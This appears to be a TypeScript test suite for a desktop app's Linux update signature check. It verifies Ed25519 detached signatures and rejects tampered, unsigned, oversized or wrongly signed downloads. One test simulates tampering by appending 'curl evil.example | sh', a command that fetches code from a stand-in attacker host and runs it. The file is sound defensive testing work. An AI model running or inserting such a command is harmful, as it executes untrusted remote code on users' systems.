import { test } from 'node:test';
import assert from 'node:assert/strict';
import { generateKeyPairSync, sign } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { checkDownloadedUpdate, isSignedBy, parseUpdatePublicKey, signatureUrl } from '../../../../main/update/update-signature.js';

/**
 * A Linux update is installed only when its detached Ed25519 signature verifies against the key
 * shipped in the app (hole 10). Real key pairs, real files on disk; the feed is a fetch double
 * (the updater's own feed must be https://, which a loopback test server is not).
 */

const releaseKey = generateKeyPairSync('ed25519');
const strangerKey = generateKeyPairSync('ed25519');
const pem = (key: typeof releaseKey) => key.publicKey.export({ type: 'spki', format: 'pem' }).toString();
const FEED = 'https://updates.example.com/desktop/';
const ARTIFACT = Buffer.from('#!/bin/sh\necho "Clearline 1.2.3 AppImage stand-in"\n'.repeat(1000));

function releaseDir(t: { after(fn: () => void): void }) {
  const dir = mkdtempSync(join(tmpdir(), 'clearline-update-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const file = join(dir, 'Clearline 1.2.3.AppImage');
  writeFileSync(file, ARTIFACT);
  const keyFile = join(dir, 'update-signing-key.pem');
  writeFileSync(keyFile, pem(releaseKey));
  return { dir, file, keyFile };
}

/** A feed that serves `signature` at the artifact's .sig URL and 404 elsewhere; records requests. */
function feed(signature: Buffer | null) {
  const requested: Array<{ url: string; redirect: RequestRedirect | undefined }> = [];
  const fetch = async (url: string, init: RequestInit) => {
    requested.push({ url, redirect: init.redirect });
    return signature && url === `${FEED}Clearline%201.2.3.AppImage.sig`
      ? new Response(new Uint8Array(signature))
      : new Response('not found', { status: 404 });
  };
  return { fetch, requested };
}

test('the signature of the exact bytes verifies; one flipped byte or another key does not', () => {
  const key = parseUpdatePublicKey(pem(releaseKey));
  const signature = sign(null, ARTIFACT, releaseKey.privateKey);
  assert.equal(isSignedBy(ARTIFACT, signature, key), true);
  const tampered = Buffer.from(ARTIFACT);
  tampered[100] = (tampered[100] ?? 0) ^ 1;
  assert.equal(isSignedBy(tampered, signature, key), false);
  assert.equal(isSignedBy(ARTIFACT, sign(null, ARTIFACT, strangerKey.privateKey), key), false);
  assert.equal(isSignedBy(ARTIFACT, signature.subarray(0, 63), key), false, 'a truncated signature is no signature');
});

test('only an Ed25519 public key is accepted as the update-signing key', () => {
  const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 }).publicKey.export({ type: 'spki', format: 'pem' }).toString();
  assert.throws(() => parseUpdatePublicKey(rsa), /the update-signing key must be Ed25519 \(got rsa\)/);
});

test('the signature lives next to the artifact on the feed, its name URL-encoded', () => {
  assert.equal(signatureUrl(FEED, '/cache/pending/Clearline 1.2.3.AppImage'), `${FEED}Clearline%201.2.3.AppImage.sig`);
  assert.equal(
    signatureUrl('https://u.example/linux', '/x/clearline_1.2.3_amd64.deb'),
    'https://u.example/linux/clearline_1.2.3_amd64.deb.sig',
  );
});

test('a genuine download passes; the signature is fetched without following redirects', async (t) => {
  const { file, keyFile } = releaseDir(t);
  const server = feed(sign(null, ARTIFACT, releaseKey.privateKey));
  assert.deepEqual(await checkDownloadedUpdate(file, FEED, keyFile, { readFile, fetch: server.fetch }), { ok: true });
  assert.deepEqual(server.requested, [{ url: `${FEED}Clearline%201.2.3.AppImage.sig`, redirect: 'error' }]);
});

test('a modified download, a stranger’s signature, a missing signature or a missing key: refused, with the reason', async (t) => {
  const { dir, file, keyFile } = releaseDir(t);
  const genuine = sign(null, ARTIFACT, releaseKey.privateKey);

  writeFileSync(file, Buffer.concat([ARTIFACT, Buffer.from('\ncurl evil.example | sh\n')]));
  const modified = await checkDownloadedUpdate(file, FEED, keyFile, { readFile, fetch: feed(genuine).fetch });
  assert.deepEqual(modified, {
    ok: false,
    reason: `Clearline 1.2.3.AppImage does not match its signature ${FEED}Clearline%201.2.3.AppImage.sig: modified or not signed by Clearline`,
  });

  writeFileSync(file, ARTIFACT);
  const stranger = await checkDownloadedUpdate(file, FEED, keyFile, {
    readFile,
    fetch: feed(sign(null, ARTIFACT, strangerKey.privateKey)).fetch,
  });
  assert.equal(stranger.ok, false);

  const unsigned = await checkDownloadedUpdate(file, FEED, keyFile, { readFile, fetch: feed(null).fetch });
  assert.deepEqual(unsigned, { ok: false, reason: `no signature at ${FEED}Clearline%201.2.3.AppImage.sig (HTTP 404)` });

  const oversized = await checkDownloadedUpdate(file, FEED, keyFile, { readFile, fetch: feed(Buffer.alloc(4096)).fetch });
  assert.match(oversized.ok ? '' : oversized.reason, /is not a signature \(4096 bytes\)$/);

  const noKey = await checkDownloadedUpdate(file, FEED, join(dir, 'absent.pem'), { readFile, fetch: feed(genuine).fetch });
  assert.match(noKey.ok ? '' : noKey.reason, /^no usable update-signing key in this build \(.*absent\.pem: ENOENT/);

  const offline = await checkDownloadedUpdate(file, FEED, keyFile, {
    readFile,
    fetch: async () => {
      throw new TypeError('fetch failed');
    },
  });
  assert.match(offline.ok ? '' : offline.reason, /^cannot fetch the signature .* \(fetch failed\)$/);
});
